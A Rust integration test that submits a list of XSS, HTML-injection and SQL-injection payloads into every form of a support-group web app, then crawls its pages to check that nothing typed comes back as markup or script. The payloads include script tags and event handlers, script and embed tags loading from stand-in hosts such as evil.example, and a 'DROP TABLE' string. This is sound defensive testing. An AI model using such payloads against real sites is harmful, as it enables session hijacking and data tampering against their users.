//! Words that would like to be a programme, in every field of the pages between sessions. The fields are found in the forms themselves and the
//! pages that show them by following links, so a new field is in this test the day it is written.

use std::{
    cell::RefCell,
    collections::{BTreeMap, BTreeSet, VecDeque},
    time::Duration,
};

use ground::{Ask, values};
use html5ever::{
    tendril::StrTendril,
    tokenizer::{BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts, states::RawKind},
};
use hyper::StatusCode;
use testkit::{Browser, Page};

use crate::{
    harness::{Running, start_with_clock},
    messages::channel,
};

/// Stands in every payload and in nothing of ours: letters, since a number stands in an id now and then.
const MARK: &str = "qzxv";

const PAYLOADS: &[&str] = &[
    "<script>alert(qzxv)</script>",
    "</script><script>alert(qzxv)</script>",
    "\"><script src=//evil.example/qzxv></script>",
    "<img src=x onerror=alert(qzxv)>",
    "\"><img src=x onerror=alert(qzxv)>",
    "'><img src=x onerror=alert(qzxv)>",
    "\" onfocus=alert(qzxv) autofocus x=\"",
    "' onmouseover='alert(qzxv)",
    "` onclick=alert(qzxv) `",
    "<svg onload=alert(qzxv)>",
    "<svg><animate onbegin=alert(qzxv)>",
    "<math><mi xlink:href=javascript:alert(qzxv)>",
    "<iframe srcdoc='<b>qzxv'></iframe>",
    "<object data=javascript:alert(qzxv)>",
    "<embed src=//evil.example/qzxv>",
    "<base href=//evil.example/qzxv/>",
    "<meta http-equiv=refresh content=0;qzxv>",
    "<link rel=stylesheet href=//e.example/qzxv>",
    "<style>*{background:url(//e.example/qzxv)}",
    "<details open ontoggle=alert(qzxv)>",
    "<form action=//evil.example/qzxv><input>",
    "<a href=javascript:alert(qzxv)>qzxv</a>",
    "</textarea><b onclick=alert(qzxv)>",
    "</title><b onclick=alert(qzxv)>",
    "<!--><b onclick=alert(qzxv)>-->",
    "]]><b onclick='qzxv'/><![CDATA[",
    "&lt;b onclick=qzxv&gt; &#60;b qzxv&#62;",
    "&\"'<>qzxv &amp;qzxv &nbsp;qzxv",
    "[qzxvx](javascript:alert(qzxv))",
    "![x](https://e.example/qzxv.png)",
    "<javascript:alert(qzxv)> <https://e.example/qzxv>",
    "[x](data:text/html,qzxv) [y](//e.example)",
    "javascript:alert(qzxv) vbscript:qzxv",
    "https://e.example/qzxv\"onclick=alert(qzxv)",
    "{{qzxv*2}} {% raw %}qzxv ${qzxv} #{qzxv}",
    "# qzxv\n\n* <b>qzxv</b>\n\n> qzxv",
    "\u{202e}1038\u{202c}qzxv\u{2066}x\u{200b}",
    "qzxv\0<b onclick=qzxv>\u{1}\u{1b}[31m",
    "\u{ff1c}script\u{ff1e}qzxv \u{3008}b\u{3009} +ADw-qzxv",
    "'; DROP TABLE message; -- qzxv",
    "%3Cscript%3Eqzxv %00 ..%2f..%2fqzxv",
];

/// Elements that no page of ours has.
const NEVER: &[&str] = &["iframe", "object", "embed", "math", "base", "animate", "mi", "marquee", "frameset", "applet", "b"];
/// Attributes that hold words of people and nothing else.
const WORDS: &[&str] = &["value", "alt", "title", "placeholder", "aria-label", "content", "label"];
const LINKS: &[&str] = &["href", "src", "action", "formaction", "poster", "srcset", "xlink:href"];

#[derive(Debug, Clone, Default)]
struct Tag {
    name: String,
    ends: bool,
    attributes: BTreeMap<String, String>,
    /// What stands behind it until the next one.
    text: String,
}

impl Tag {
    fn get(&self, name: &str) -> &str {
        self.attributes.get(name).map_or("", String::as_str)
    }

    fn has(&self, name: &str) -> bool {
        self.attributes.contains_key(name)
    }
}

#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => {
                let ends = tag.kind == TagKind::EndTag;
                let attributes = tag.attrs.iter().map(|one| (one.name.local.to_string(), one.value.to_string())).collect();
                self.0.borrow_mut().push(Tag { name: tag.name.to_string(), ends, attributes, text: String::new() });
                match &*tag.name {
                    "script" if !ends => TokenSinkResult::RawData(RawKind::ScriptData),
                    "style" if !ends => TokenSinkResult::RawData(RawKind::Rawtext),
                    "textarea" | "title" if !ends => TokenSinkResult::RawData(RawKind::Rcdata),
                    _ => TokenSinkResult::Continue,
                }
            }
            Token::CharacterTokens(text) => {
                if let Some(last) = self.0.borrow_mut().last_mut() {
                    last.text.push_str(&text);
                }
                TokenSinkResult::Continue
            }
            _ => TokenSinkResult::Continue,
        }
    }
}

/// The page as a browser cuts it up.
fn tags(html: &str) -> Vec<Tag> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}

/// Nothing that somebody typed is an element, an attribute, an address that runs, or a script.
fn checked(page: &Page, what: &str) {
    assert!(page.status.as_u16() < 500, "{what}: {}", page.status);
    for tag in tags(&page.text) {
        assert!(!NEVER.contains(&tag.name.as_str()) && !tag.name.contains(MARK), "{what} has an element {tag:?}");
        for (name, value) in &tag.attributes {
            assert!(!name.starts_with("on") && !name.contains(MARK), "{what} has an attribute {tag:?}");
            let small = value.trim_start_matches(|letter: char| letter.is_whitespace() || letter.is_control()).to_lowercase();
            if LINKS.contains(&name.as_str()) {
                let leads = ["/", "#", "?", "http://", "https://", "tel:", "sms:", "mailto:", "data:image/"];
                assert!(small.is_empty() || leads.iter().any(|start| small.starts_with(start)), "{what} has an address {tag:?}");
                // A path of this house may have words of a title in it.
                let is_calm = tag.name == "a" && name == "href" || small.starts_with('/');
                assert!(!small.contains(MARK) || is_calm && !small.starts_with("//"), "{what} loads {tag:?}");
            } else if !WORDS.contains(&name.as_str()) && !name.starts_with("data-") {
                assert!(!value.contains(MARK), "{what} has words in {tag:?}");
            }
        }
        assert!(tag.name != "meta" || !tag.has("http-equiv"), "{what} is led elsewhere by {tag:?}");
        let is_script = tag.name == "script" && !tag.ends;
        assert!(!is_script || tag.has("nonce") || tag.get("src").starts_with("/assets/"), "{what} has a script {tag:?}");
        assert!(!(is_script || tag.name == "style" && !tag.ends) || !tag.text.contains(MARK), "{what} has words in {tag:?}");
    }
}

#[derive(Debug, Clone, Default)]
struct Form {
    action: String,
    in_parts: bool,
    /// Name, value, and for what one writes into, how much fits.
    fields: Vec<(String, String, Option<usize>)>,
}

/// What may be chosen and brings a form to where others read it.
const CHOSEN: &[(&str, &str)] = &[("choice", "now"), ("audience", "everybody")];

/// The forms of a page that have something to write into.
fn forms(html: &str) -> Vec<Form> {
    let (mut all, mut select) = (Vec::new(), String::new());
    for tag in tags(html) {
        if tag.name == "form" && !tag.ends && tag.get("method") == "post" {
            let in_parts = tag.get("enctype").starts_with("multipart");
            all.push(Form { action: tag.get("action").to_owned(), in_parts, fields: Vec::new() });
        }
        let Some(form) = all.last_mut().filter(|_| !tag.ends) else { continue };
        let (name, value) = (tag.get("name").to_owned(), tag.get("value").to_owned());
        let most = Some(tag.get("maxlength").parse().unwrap_or(2_000));
        let known = form.fields.iter().position(|(known, ..)| *known == name);
        let is_chosen = CHOSEN.contains(&(name.as_str(), value.as_str()));
        match (tag.name.as_str(), tag.get("type")) {
            ("textarea", _) => form.fields.push((name, String::new(), most)),
            ("select", _) => {
                select.clone_from(&name);
                form.fields.push((name, String::new(), None));
            }
            ("option", _) => {
                if let Some(field) = form.fields.iter_mut().find(|(known, old, _)| *known == select && old.is_empty()) {
                    field.1 = value;
                }
            }
            ("input", "radio" | "checkbox") => match known {
                Some(at) if is_chosen => form.fields[at].1 = value,
                Some(_) => {}
                None => form.fields.push((name, if value.is_empty() { "on".into() } else { value }, None)),
            },
            ("input", "hidden" | "date" | "time" | "number" | "email" | "url") => form.fields.push((name, value, None)),
            ("input", _) if tag.get("inputmode") == "numeric" => form.fields.push((name, value, None)),
            ("input", "file" | "search" | "submit") => {}
            ("input", _) => form.fields.push((name, String::new(), most)),
            _ => {}
        }
    }
    all.retain(|form| form.fields.iter().any(|(.., most)| most.is_some()));
    all
}

/// Even rounds put many at once into what is long, odd ones one into each.
fn filled(form: &Form, round: usize) -> Vec<(String, String)> {
    let day = ground::Clock::System.now().in_zone("UTC").date().checked_add(jiff::Span::new().days(3)).unwrap();
    let fill = |(at, (name, value, most)): (usize, &(String, String, Option<usize>))| {
        // Four rounds of twelve each are all of them, and a turn of one for each is, too.
        let from = if round.is_multiple_of(4) { round * 3 } else { round };
        let one = |more: usize| PAYLOADS[(from + at + more) % PAYLOADS.len()];
        let typed = match (most, name.as_str()) {
            (None, "day" | "date") if value.is_empty() => day.to_string(),
            (None, "time") if value.is_empty() => "09:00".into(),
            (None, "email") => format!("odd-{round}@example.org"),
            (None, _) => value.clone(),
            (Some(most), _) if *most > 400 && round.is_multiple_of(4) => (0..12).map(one).collect::<Vec<_>>().join("\n"),
            (Some(most), _) if *most > 400 && round % 4 == 2 => format!("{} {}", one(0), "Wqzxv".repeat(1_000)),
            _ => one(0).to_owned(),
        };
        (name.clone(), typed.chars().take(most.unwrap_or(usize::MAX)).collect())
    };
    form.fields.iter().enumerate().map(fill).collect()
}

async fn posted(browser: &mut Browser, form: &Form, round: usize) -> Page {
    let fields = filled(form, round);
    let fields: Vec<(&str, &str)> = fields.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    if form.in_parts { browser.upload(&form.action, &fields, ("file", b"")).await } else { browser.post(&form.action, &fields).await }
}

/// Every form of a page is sent with every payload; the actions of which at least one was taken.
async fn everything_into(browser: &mut Browser, path: &str, clock: &ground::Clock, taken: &mut BTreeMap<String, usize>) {
    let actions: Vec<Form> = forms(&browser.get(path).await.text);
    assert!(!actions.is_empty(), "{path} has nothing to write into");
    for first in actions {
        // A field of a few letters takes one at a time; where all are long, twelve come together in each fourth round.
        let is_short = first.fields.iter().any(|(.., most)| most.is_some_and(|most| most <= 400));
        let rounds = if is_short { PAYLOADS.len() } else { 16 };
        for round in 0..rounds {
            // Nobody is stopped for writing too much.
            clock.advance(Duration::from_secs(40));
            let page = browser.get(path).await;
            let Some(form) = forms(&page.text).into_iter().find(|form| form.action == first.action) else { break };
            let answer = posted(browser, &form, round).await;
            checked(&answer, &format!("the answer of {} in round {round}", form.action));
            let place = form.action.split('/').filter(|part| part.parse::<i64>().is_err()).collect::<Vec<_>>().join("/");
            *taken.entry(place).or_default() += usize::from(answer.status.is_redirection() || answer.status == StatusCode::OK);
        }
    }
}

/// The addresses of this house that a page leads to, as long as they are of the pages that we look at.
fn leads_to(html: &str) -> Vec<String> {
    let parts = [
        "channels",
        "groups",
        "messages",
        "library",
        "notes",
        "notes-series",
        "letters",
        "supporters",
        "reports",
        "risk-tasks",
        "family",
        "people",
        "today",
        "account",
        "practice",
        "circles",
    ];
    let links = tags(html).into_iter().filter(|tag| tag.name == "a" && !tag.ends).map(|tag| tag.get("href").to_owned());
    let ours = |path: &String| path.starts_with('/') && parts.contains(&path[1..].split(['/', '?', '#']).next().unwrap_or_default());
    links.filter(ours).map(|path| path.split('#').next().unwrap_or_default().to_owned()).collect()
}

/// Follows links from these pages; how many of those it saw show something of what was typed.
async fn read_all(browser: &mut Browser, who: &str, from: &[String]) -> usize {
    let mut waiting: VecDeque<String> = from.iter().cloned().collect();
    let (mut seen, mut shapes, mut showing) = (BTreeSet::new(), BTreeMap::<String, usize>::new(), 0);
    while let Some(path) = waiting.pop_front() {
        // Of a hundred pages that differ by a number, the first few say what the others say.
        let shape: String = path.split('?').next().unwrap_or_default().chars().filter(|letter| !letter.is_ascii_digit()).collect();
        let many = shapes.entry(shape).or_default();
        if !seen.insert(path.clone()) || *many >= 6 {
            continue;
        }
        *many += 1;
        let page = browser.get(&path).await;
        if page.headers.get("content-type").is_none_or(|kind| !kind.to_str().unwrap_or_default().starts_with("text/html")) {
            continue;
        }
        checked(&page, &format!("{who} at {path}"));
        showing += usize::from(page.text.contains(MARK));
        waiting.extend(leads_to(&page.text));
    }
    showing
}

async fn first(browser: &mut Browser, on: &str, like: impl Fn(&str) -> bool) -> String {
    let page = browser.get(on).await;
    let found = leads_to(&page.text).into_iter().find(|path| like(path));
    found.unwrap_or_else(|| panic!("nothing to follow on {on}: {:?}", leads_to(&page.text)))
}

async fn everybody_writes(running: &Running, clock: &ground::Clock, taken: &mut BTreeMap<String, usize>) {
    let group = format!("/groups/{}", running.group("Steady Ground").await);
    let id = running.person("Maya").await.id;
    let mut amara = running.signed_in("Dr. Amara").await;
    let mut maya = running.signed_in("Maya").await;
    let path = channel(running, &mut maya, "Steady Ground").await;
    let own = maya.get(&format!("/people/{id}/messages")).await.location;
    amara.post(&format!("{group}/outside-contact"), &[("yes", "yes")]).await;
    let days: Vec<String> = (1..=7).map(|day| format!("day-{day}")).collect();
    let plan: Vec<(&str, &str)> = days.iter().map(|day| (day.as_str(), "on")).chain([("time", "00:00")]).collect();
    amara.post(&format!("{group}/check-ins"), &plan).await;
    // Nobody is signed out in the middle: each page begins with a new sign-in.
    for (who, page) in [
        ("Theo", group.clone()),
        ("Theo", path.clone()),
        ("Maya", path.clone()),
        ("Maya", own.clone()),
        ("Dr. Amara", own.clone()),
        ("Maya", format!("{group}/check-in")),
        ("Maya", format!("{group}/circles")),
        ("Theo", format!("{group}/what-helped/new")),
        ("Dr. Amara", format!("{group}/question")),
        ("Maya", format!("{group}/question")),
        ("Maya", format!("{group}/moments")),
        ("Dr. Amara", "/library/new".into()),
        ("Dr. Amara", "/notes-series/new".into()),
        ("Maya", "/letters".into()),
        ("Maya", "/supporters".into()),
        ("Anders", "/practice/messages".into()),
    ] {
        everything_into(&mut running.signed_in(who).await, &page, clock, taken).await;
    }
    let mut maya = running.signed_in("Maya").await;
    let entry = first(&mut maya, &format!("{group}/what-helped"), |path| path.contains("/what-helped/") && !path.ends_with("/new")).await;
    everything_into(&mut maya, &entry, clock, taken).await;
    let mut maya = running.signed_in("Maya").await;
    let report = first(&mut maya, &path, |path| path.ends_with("/report")).await;
    everything_into(&mut maya, &report, clock, taken).await;
    let mut amara = running.signed_in("Dr. Amara").await;
    let note = first(&mut amara, "/notes-series", |path| path.starts_with("/notes-series/") && !path.ends_with("/new")).await;
    everything_into(&mut amara, &note, clock, taken).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_is_typed_becomes_a_part_of_a_page() {
    let (running, clock) = start_with_clock("corpus").await;
    let mut taken = BTreeMap::new();
    everybody_writes(&running, &clock, &mut taken).await;
    let refused: Vec<_> = taken.iter().filter(|(_, count)| **count == 0).collect();
    assert!(refused.is_empty() && taken.len() >= 14, "every form takes something, or it is not tried: {refused:?} of {taken:?}");
    running.work().await;
    let group = format!("/groups/{}", running.group("Steady Ground").await);
    let from: Vec<String> = [
        "/today",
        "/messages",
        "/library",
        "/notes",
        "/notes-series",
        "/letters",
        "/supporters",
        "/account/data",
        "/practice/messages",
        "/risk-tasks",
        "/people",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain(
        ["", "/messages", "/circles", "/what-helped", "/question", "/moments", "/check-in", "/check-ins"]
            .map(|end| format!("{group}{end}")),
    )
    .chain([channel(&running, &mut running.signed_in("Maya").await, "Steady Ground").await])
    .collect();
    for (who, least) in
        [("Maya", 12), ("Theo", 8), ("Dr. Amara", 12), ("Carol", 3), ("Anders", 3), ("Nadia", 1), ("Rosa", 1), ("Aisha", 1), ("", 1)]
    {
        let mut browser = if who.is_empty() { running.visitor() } else { running.signed_in(who).await };
        let showing = read_all(&mut browser, who, &from).await;
        assert!(showing >= least, "{who} sees {showing} pages with what was typed");
    }
    let feed = running.visitor().get("/notes.atom").await;
    let read = roxmltree::Document::parse(&feed.text).expect("a feed is XML, whatever is in it");
    let entries = read.descendants().filter(|node| node.has_tag_name(("http://www.w3.org/2005/Atom", "entry"))).count();
    assert!(entries > 0 && feed.text.contains(MARK), "it has what was published");
    assert!(read.descendants().filter(|node| node.is_element()).all(|node| !node.tag_name().name().contains("script")));
    assert!(running.house.db.number("SELECT COUNT(*) AS n FROM message", values![]).await.unwrap() > 20, "no table was dropped");
}

/// The test would see it.
#[test]
fn what_would_be_markup_is_found() {
    let page = |text: &str| Page {
        status: StatusCode::OK,
        location: String::new(),
        headers: hyper::HeaderMap::new(),
        text: text.into(),
        bytes: Vec::new().into(),
    };
    for payload in PAYLOADS.iter().filter(|payload| payload.starts_with('<') && !payload.contains("qzxv*2") && !payload.starts_with("<!--"))
    {
        let bare = page(&format!("<p>{payload}</p>"));
        let caught = std::panic::catch_unwind(|| checked(&bare, "a page")).is_err();
        let is_plain = payload.starts_with("<form") || payload.starts_with("<javascript");
        assert!(caught || is_plain, "{payload} would not be seen");
    }
    for (attribute, seen) in [("\" onfocus=alert(qzxv) x=\"", true), ("qzxv", false)] {
        let bare = page(&format!("<input value=\"{attribute}\">"));
        assert_eq!(std::panic::catch_unwind(|| checked(&bare, "a page")).is_err(), seen, "{attribute}");
    }
    checked(&page("<textarea>&lt;script&gt;qzxv</textarea><a href=\"https://e.example/qzxv\">qzxv</a>"), "words");
    let form = "<form method=\"post\" action=\"/a\"><input type=\"hidden\" name=\"once\" value=\"1\"><input name=\"word\" maxlength=\"30\"><select name=\"s\"><option value=\"\"><option value=\"b\"></select><textarea name=\"text\"></textarea></form>";
    let found = forms(form);
    let names: Vec<&str> = found[0].fields.iter().map(|(name, ..)| name.as_str()).collect();
    assert_eq!(names, ["once", "word", "s", "text"]);
    assert_eq!((&*found[0].fields[2].1, found[0].fields[1].2), ("b", Some(30)));
}
